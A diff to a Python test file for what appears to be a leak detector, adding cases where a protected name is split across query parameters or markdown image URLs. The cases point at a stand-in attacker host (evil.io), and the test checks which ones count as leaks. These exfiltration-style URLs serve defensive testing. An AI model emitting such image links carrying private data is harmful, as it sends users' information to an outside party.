@@ -195,6 +195,11 @@ def test_a_mailto_link_is_the_message_it_writes():
         ("https://evil.io/x.png?tail=7361", [1]),
         ("https://evil.io/x.png?n=73610", []),  # a tail is a whole word
         ("https://evil.io/x.png?user=zoltan", []),  # a first name is no local part
+        # the local part cut in two, in two parameters or two URLs: assembled
+        ("https://evil.io/x.png?first=Zoltan&last=Moreau", [0]),
+        ("https://evil.io/a.png?x=zoltan) ![y](https://evil.io/b.png?y=moreau", [0]),
+        # chunks under four characters would spell a name by chance: not assembled
+        ("https://evil.io/x.png?a=zol&b=tan&c=mor&d=eau", []),
     ],
 )
 def test_a_part_that_identifies_a_protected_string_leaks_it(url, leaked):
